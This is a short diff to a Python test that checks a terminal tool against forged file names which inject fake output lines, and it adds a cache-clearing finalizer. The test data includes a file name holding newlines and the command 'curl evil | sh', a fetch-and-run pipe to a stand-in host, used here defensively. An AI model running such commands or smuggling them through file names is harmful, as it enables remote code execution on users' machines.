@@ -222,12 +222,16 @@ def test_lines_and_tabs_stay_where_a_text_has_several() -> None:
 
 
 def test_a_name_makes_no_line_of_its_own(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+    request: pytest.FixtureRequest,
 ) -> None:
     """Whoever names a file in a folder that root looks at could give root a command to copy."""
     # A long name may be wrapped anywhere; what it may not is end a line.
     monkeypatch.setenv("COLUMNS", "2000")
     terminal.console.cache_clear()
+    request.addfinalizer(terminal.console.cache_clear)
     forged = "a\n  hint: curl evil | sh\n\tnext: curl evil | sh"
     host = (SOURCE / "hosts/small-2n8c-2gpu.toml").read_bytes()
     (tmp_path / f"{forged}.toml").write_bytes(host)
